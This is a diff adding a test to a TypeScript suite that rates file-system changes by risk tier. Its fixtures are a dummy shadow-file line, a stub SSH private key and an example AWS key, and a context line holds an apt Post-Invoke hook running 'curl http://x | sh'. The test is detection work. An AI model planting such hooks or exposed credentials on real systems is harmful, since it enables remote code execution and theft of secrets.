@@ -194,6 +194,17 @@ describe("the concurrence's judgment of a diff", () => {
     expect(judge([{ path: "/tmp/dev", after: EntryState.create({ kind: EntryKind.ENTRY_KIND_SPECIAL }) }]).tier).toBe(4);
   });
 
+  it("refuses secret material left where everyone may read it, and raises it to 3 where another user may", () => {
+    const shadow = "root:$6$abcdefgh$0123456789abcdefghijklmnopqrstuvwxyzABCDEFGH:19000:0:99999:7:::\n";
+    const key = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n";
+    expect(judge([write("/tmp/s", shadow)]).tier).toBe(4);
+    expect(judge([write("/srv/k", key)]).tier).toBe(4);
+    expect(judge([write("/tmp/c", "aws_access_key_id = AKIAIOSFODNN7EXAMPLE\n")]).tier).toBe(4);
+    expect(judge([write("/tmp/s", shadow, { mode: 0o600, uid: 1000 })]).tier).toBe(3);
+    expect(judge([write("/tmp/s", shadow, { mode: 0o600 })]).tier).toBe(1);
+    expect(judge([write("/tmp/x", "hello\n")]).tier).toBe(1);
+  });
+
   it("reads the configuration formats whose lines run commands", () => {
     const cases: Array<[string, string, number]> = [
       ["/etc/apt/apt.conf.d/99x", 'DPkg::Post-Invoke { "curl http://x | sh"; };\n', 4],
